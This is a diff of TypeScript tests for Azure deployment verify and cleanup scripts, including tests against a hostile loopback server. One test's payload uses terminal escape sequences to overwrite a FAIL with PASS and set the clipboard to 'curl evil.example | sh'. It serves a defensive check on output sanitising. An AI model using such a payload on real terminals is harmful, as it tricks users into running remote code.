@@ -233,8 +233,90 @@ describe("verify.sh", () => {
   });
 });
 
+/** A server on loopback that answers every request with `respond` (a hostile or broken data plane). */
+function server(respond: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<{ port: number; close: () => Promise<void> }> {
+  const s = http.createServer((req, res) => {
+    req.resume();
+    req.on("end", () => respond(req, res));
+  });
+  return new Promise((resolve) =>
+    s.listen(0, "127.0.0.1", () =>
+      resolve({ port: (s.address() as AddressInfo).port, close: () => new Promise((r) => { s.closeAllConnections(); s.close(() => r()); }) }),
+    ),
+  );
+}
+
+describe("verify.sh against a hostile server", () => {
+  const { verify: script } = scriptsFor();
+  // Moves up a line, erases it, writes a PASS over the FAIL, and sets the clipboard (OSC 52) to a command.
+  const REPAINT = `\x1b[1A\x1b[2K\rPASS chat completions: HTTP 200\x1b]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\x07\x1b[8m`;
+
+  test("prints only printable characters of a body: no escape sequence, bell or carriage return reaches the terminal", async () => {
+    const srv = await server((_req, res) => {
+      res.writeHead(500, { "content-type": "text/plain" });
+      res.end(REPAINT);
+    });
+    try {
+      const r = await verify(script, srv.port);
+      expect(r.code).toBe(1);
+      expect(r.out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
+      expect(r.out).toMatch(/^FAIL chat completions: expected HTTP 200 with "choices", got HTTP 500: \[1A\[2KPASS chat completions: HTTP 200\]52;c;[A-Za-z0-9+/=]+\[8m$/m);
+      expect(r.out).not.toMatch(/^PASS/m);
+    } finally {
+      await srv.close();
+    }
+  });
+
+  test("reads at most 1 MiB of a streamed body that never ends (no Content-Length: --max-filesize does not apply)", async () => {
+    const LIMIT = 64 * 1024 * 1024; // what the server sends at most, so a broken script cannot fill the disk
+    const sent: number[] = [];
+    const srv = await server((_req, res) => {
+      res.writeHead(500, { "content-type": "text/event-stream" });
+      const chunk = Buffer.alloc(64 * 1024, "data: {}\n\n");
+      let total = 0;
+      const socket = res.socket!;
+      socket.on("close", () => sent.push(socket.bytesWritten));
+      const pump = () => {
+        while (total < LIMIT && !res.destroyed) {
+          total += chunk.length;
+          if (!res.write(chunk)) return void res.once("drain", pump);
+        }
+        res.end();
+      };
+      pump();
+    });
+    try {
+      const started = Date.now();
+      const r = await verify(script, srv.port);
+      expect(r.code).toBe(1);
+      expect(r.out).toMatch(/^FAIL chat completions: expected HTTP 200 with "choices", got HTTP 500: (data: \{\})+$/m);
+      expect(sent.length).toBeGreaterThan(0);
+      // 1 MiB read, plus what the loopback socket buffers held when curl stopped.
+      for (const bytes of sent) expect(bytes).toBeLessThan(16 * 1024 * 1024);
+      expect(Date.now() - started).toBeLessThan(20_000);
+    } finally {
+      await srv.close();
+    }
+  });
+
+  test("refuses a body announced larger than 1 MiB, and says so", async () => {
+    const srv = await server((_req, res) => {
+      res.writeHead(200, { "content-type": "application/json", "content-length": String(5 * 1024 * 1024 * 1024) });
+      res.write("{");
+      setTimeout(() => res.destroy(), 2000);
+    });
+    try {
+      const r = await verify(script, srv.port);
+      expect(r.code).toBe(1);
+      expect(r.out).toContain(`FAIL chat completions: response too large: http://127.0.0.1:${srv.port} announced a body over 1048576 bytes (curl exit 63)`);
+    } finally {
+      await srv.close();
+    }
+  });
+});
+
 /** PATH with recording stand-ins: every call is appended to calls.log; behaviour per tool below. */
-function stubs(dir: string, helmFails: boolean): { env: NodeJS.ProcessEnv; calls: () => string[] } {
+function stubs(dir: string, helmFails: boolean, az = `[ "$1 $2" = "group exists" ] && echo false; exit 0`): { env: NodeJS.ProcessEnv; calls: () => string[] } {
   const bin = path.join(dir, "bin");
   const log = path.join(dir, "calls.log");
   fs.mkdirSync(bin);
@@ -254,7 +336,9 @@ exit 0`,
   stub("helm", helmFails ? `[ "$1" = status ] && exit 0; exit 1` : "exit 0");
   // The -cluster stack's state holds the namespaces it created (prevent_destroy).
   stub("terraform", `case "$*" in *test-cluster" state list") printf 'kubernetes_namespace_v1.NamespaceSystem\\nkubernetes_secret_v1.PullSecret_System\\n' ;; esac; exit 0`);
-  stub("az", `[ "$1 $2" = "group exists" ] && echo false; exit 0`);
+  stub("az", az);
+  // Waits take no time here; each is still recorded.
+  stub("sleep", "exit 0");
   return {
     env: { PATH: `${bin}:${process.env.PATH}`, HOME: dir },
     calls: () => (fs.existsSync(log) ? fs.readFileSync(log, "utf8").trim().split("\n") : []),
@@ -383,6 +467,92 @@ exit 0
   });
 });
 
+describe("cleanup.sh says what is left, and fails when anything is", () => {
+  const SUB = "7c1f4a52-3a8e-4d51-9a0b-2f6c1d0e9b41";
+  const WAF = { azure: { subscriptionId: SUB }, ingress: { waf: { enabled: true } } };
+
+  function cleanupWith(opts: { patch?: Record<string, unknown>; synthesized?: boolean; az?: string; args?: string[] }) {
+    const s = scriptsFor(opts.patch);
+    if (opts.synthesized ?? true) {
+      for (const stack of ["test-azure", "test-cluster"]) {
+        fs.mkdirSync(path.join(s.dir, "cdktf.out", "stacks", stack), { recursive: true });
+        fs.writeFileSync(path.join(s.dir, "cdktf.out", "stacks", stack, "cdk.tf.json"), "{}");
+      }
+    }
+    const { env, calls } = stubs(s.dir, false, opts.az);
+    const r = spawnSync("bash", [s.cleanup, "--yes", ...(opts.args ?? [])], { env, encoding: "utf8" });
+    return { ...r, calls: calls() };
+  }
+
+  test("without the synthesized stacks it exits 1 and names both stacks, with what they hold and the fix", () => {
+    const r = cleanupWith({ synthesized: false });
+    expect(r.status).toBe(1);
+    expect(r.stdout).not.toContain("cleanup.sh: done");
+    expect(r.stderr).toContain("cleanup.sh: NOT done for test: still there (Azure resources among them keep billing):");
+    expect(r.stderr).toMatch(/^ {2}- stack test-cluster \(Secrets, then the namespaces it created\): not synthesized in .*cdktf\.out\/stacks; run npm run synth in .* and re-run, or destroy it where it was applied$/m);
+    expect(r.stderr).toMatch(/^ {2}- stack test-azure \(cluster, App Gateway, registry, network, identities, resource group\): not synthesized in /m);
+    expect(r.calls.some((c) => c.startsWith("terraform"))).toBe(false);
+  });
+
+  test("--dry-run without the synthesized stacks lists what a real run would leave, and succeeds (it deletes nothing by design)", () => {
+    const r = cleanupWith({ synthesized: false, args: ["--dry-run"] });
+    expect(r.status).toBe(0);
+    expect(r.stderr).toContain("cleanup.sh: dry run for test: a real run would leave:");
+    expect(r.stderr).toMatch(/^ {2}- stack test-azure \(cluster, App Gateway, registry, network, identities, resource group\): not synthesized in /m);
+  });
+
+  test("the resource group still there: exit 1 naming it, unless --delete-resource-group deletes it", () => {
+    const exists = `[ "$1 $2" = "group exists" ] && echo true; exit 0`;
+    const kept = cleanupWith({ az: exists });
+    expect(kept.status).toBe(1);
+    expect(kept.stderr).toMatch(/^ {2}- resource group rg-test: still exists; inspect it \(az resource list --resource-group rg-test -o table\), then re-run with --delete-resource-group$/m);
+    const deleted = cleanupWith({ az: exists, args: ["--delete-resource-group"] });
+    expect(deleted.status).toBe(0);
+    expect(deleted.calls).toContain("az group delete --name rg-test --yes --no-wait");
+    expect(deleted.stdout).toContain("cleanup.sh: done for test");
+  });
+
+  // The API policy's path rule, as az network application-gateway show --query ... -o tsv prints it
+  // (Azure returns resource IDs in any case: resourcegroups here).
+  const LINKED = `printf 'pr-tars-ingress-api-v1\\t/subscriptions/${SUB}/resourcegroups/rg-test/providers/Microsoft.Network/ApplicationGatewayWebApplicationFirewallPolicies/tars-test-waf-api\\n'`;
+  const strictOnly = `printf 'pr-other\\t/subscriptions/${SUB}/resourceGroups/rg-test/providers/Microsoft.Network/ApplicationGatewayWebApplicationFirewallPolicies/tars-test-waf\\n'`;
+
+  test("WAF: waits until AGIC has unlinked the API policy from the gateway's path rules before the -azure destroy", () => {
+    // Linked on the first two looks, then AGIC has removed the rule (only another policy's is left).
+    const az = `case "$*" in
+  "group exists"*) echo false ;;
+  "network application-gateway show"*) n=$(cat "$HOME/gw-calls" 2>/dev/null || echo 0); echo $((n + 1)) > "$HOME/gw-calls"; if [ "$n" -lt 2 ]; then ${LINKED}; else ${strictOnly}; fi ;;
+esac
+exit 0`;
+    const r = cleanupWith({ patch: WAF, az });
+    expect(r.status).toBe(0);
+    const at = (prefix: string) => r.calls.findIndex((c) => c.startsWith(prefix));
+    const looks = r.calls.filter((c) => c.startsWith("az network application-gateway show --resource-group rg-test --name tars-test-appgw"));
+    expect(looks).toHaveLength(3);
+    expect(r.calls.filter((c) => c === "sleep 10")).toHaveLength(2);
+    expect(r.stdout).toContain("Path rule(s) pr-tars-ingress-api-v1 of tars-test-appgw still link tars-test-waf-api: waiting for AGIC to remove them");
+    expect(at("kubectl delete -k")).toBeLessThan(at("az network application-gateway show"));
+    expect(r.calls.lastIndexOf(looks[2])).toBeLessThan(r.calls.findIndex((c) => c.includes("test-azure destroy")));
+  });
+
+  test("WAF: a path rule that still links the API policy after 10 minutes stops the script before the -azure destroy", () => {
+    const r = cleanupWith({ patch: WAF, az: `case "$*" in "network application-gateway show"*) ${LINKED} ;; esac; exit 0` });
+    expect(r.status).toBe(1);
+    expect(r.calls.filter((c) => c === "sleep 10")).toHaveLength(60);
+    expect(r.stderr).toContain("path rule(s) pr-tars-ingress-api-v1 of App Gateway tars-test-appgw still link WAF policy tars-test-waf-api");
+    expect(r.stderr).toContain("Is Ingress tars-ingress-api gone");
+    expect(r.calls.some((c) => c.includes("test-azure destroy"))).toBe(false);
+  });
+
+  test("WAF: with the cluster gone (nothing can unlink it) it does not wait: the -azure destroy deletes the gateway first", () => {
+    const r = cleanupWith({ patch: WAF, az: `case "$*" in "aks show"*) exit 3 ;; "network application-gateway show"*) ${LINKED} ;; esac; exit 0` });
+    expect(r.status).toBe(0);
+    expect(r.stdout).toContain("Cluster tars-test is gone, and AGIC with it");
+    expect(r.calls.some((c) => c.startsWith("az network application-gateway show"))).toBe(false);
+    expect(r.calls.some((c) => c.includes("test-azure destroy"))).toBe(true);
+  });
+});
+
 describe("shellcheck", () => {
   const available = spawnSync("shellcheck", ["--version"]).status === 0;
   if (!available) console.warn("SKIPPED shellcheck: not installed (apt-get install shellcheck); .ci/run installs it");
@@ -392,6 +562,7 @@ describe("shellcheck", () => {
     ["the default environment", {}],
     ["AGC, cert-manager, private registry, GitOps", { ingress: { mode: "agc" }, azure: { subscriptionId: "7c1f4a52-3a8e-4d51-9a0b-2f6c1d0e9b41" }, tls: { mode: "cert-manager", certManager: { email: "ops@acme-ai.dev" } }, registry: { mode: "private", acrName: undefined, private: { host: "reg.example-corp.com", repository: "reg.example-corp.com/tare" } }, gitops: { repoUrl: "https://git.example-corp.com/x.git", argocd: { enabled: true } } }],
     ["an existing cluster with acr-admin", { cluster: { name: "aks", existing: { resourceGroup: "rg-aks" } }, registry: { mode: "acr-admin" } }],
+    ["the WAF in Prevention", { azure: { subscriptionId: "7c1f4a52-3a8e-4d51-9a0b-2f6c1d0e9b41" }, ingress: { waf: { enabled: true, mode: "Prevention" } } }],
   ])("verify.sh and cleanup.sh pass for %s", (_name, patch) => {
     const s = scriptsFor(patch as Record<string, unknown>);
     const r = spawnSync("shellcheck", ["--severity=style", s.verify, s.cleanup], { encoding: "utf8" });
